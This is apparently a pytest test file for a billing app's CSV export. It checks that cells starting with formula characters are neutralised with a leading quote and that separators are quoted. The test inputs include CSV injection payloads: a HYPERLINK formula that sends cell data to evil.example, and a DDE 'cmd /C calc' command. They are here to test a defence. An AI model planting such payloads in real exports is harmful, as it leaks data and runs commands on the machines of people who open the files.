"""CSV cells a spreadsheet shows as text, never runs as formulas (issue 10, finding 11)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from voxbill.domain.csv_safe import (
    FORMULA_TRIGGERS,
    Cell,
    csv_document,
    csv_line,
    neutralise,
)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("alice", "alice"),
        ("442079460000", "442079460000"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_text_starting_like_a_formula_gets_a_quote(text: str, shown: str) -> None:
    assert neutralise(text) == shown


def test_numbers_voxbill_formats_stay_numbers() -> None:
    row: list[Cell] = [Decimal("-1.50"), Decimal("-0.00"), -3, Decimal("1E-8"), True, None]
    assert csv_line(row) == "-1.50,0.00,-3,0.00000001,true,\n"


def test_a_negative_amount_as_text_is_neutralised() -> None:
    """Only voxbill's own numbers are written raw: text "-1.50" may be anything."""
    assert csv_line(["-1.50"]) == "'-1.50\n"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("a,b", '"a,b"'),
        ("x;=1+1", '"x;=1+1"'),  # a spreadsheet splitting on ";" keeps one cell
        ('say "hi"', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"'),
        ("=1;=2", '"\'=1;=2"'),
    ],
)
def test_separators_are_quoted(cell: str, written: str) -> None:
    assert csv_line([cell]) == written + "\n"


def test_a_document_is_the_header_then_the_rows() -> None:
    text = csv_document(["id", "session_id", "cost"], [[1, "=1+1", Decimal("-0.5")]])
    assert text == "id,session_id,cost\n1,'=1+1,-0.5\n"
    assert parsed(text) == [["id", "session_id", "cost"], ["1", "'=1+1", "-0.5"]]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_every_text_reads_back_unchanged_but_never_as_a_formula(cells: list[str]) -> None:
    (row,) = parsed(csv_line(cells))
    assert len(row) == len(cells)
    for original, read in zip(cells, row, strict=True):
        assert not read.startswith(FORMULA_TRIGGERS)
        assert read == ("'" + original if original.startswith(FORMULA_TRIGGERS) else original)


def test_a_row_of_one_empty_cell_is_still_a_record() -> None:
    assert csv_line([""]) == '""\n'
    assert parsed(csv_line([""])) == [[""]]
